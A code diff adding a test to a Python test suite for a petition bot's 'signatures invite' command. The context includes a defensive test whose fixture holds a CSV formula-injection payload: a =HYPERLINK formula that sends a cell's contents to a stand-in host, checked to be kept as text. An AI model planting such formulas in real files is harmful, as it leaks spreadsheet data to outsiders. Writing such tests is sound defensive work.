@@ -37,6 +37,16 @@ async def test_invite_sends_a_csv_of_waiting_signatories_with_codes_and_the_join
         await bot.close()
 
 
+async def test_invite_with_nobody_to_invite_says_why(bot: ConsoleBot, tmp_path: Path) -> None:
+    """With no list imported, it said "Everyone waiting already has an invite code"."""
+    bot.dm()
+    assert "No signatories yet. Next: `signatures import`" in joined(await bot.say("you", "signatures invite"))
+    await upload(bot, tmp_path, b"name,email\nAlex Doe,alex@example.org\n")
+    bot.dm()
+    await bot.say("alex", "!iam alex@example.org")
+    assert "Everyone who signed has joined" in joined(await bot.say("you", "signatures invite"))
+
+
 async def test_invite_csv_keeps_a_name_that_looks_like_a_formula_as_text(bot: ConsoleBot, tmp_path: Path) -> None:
     # A signature is typed by anyone; the mail merge opens this file in a spreadsheet.
     sheet = 'name,email\n"=HYPERLINK(""http://x.example/?""&A1,""hi"")",a@example.org\n+Sam,b@example.org\n'
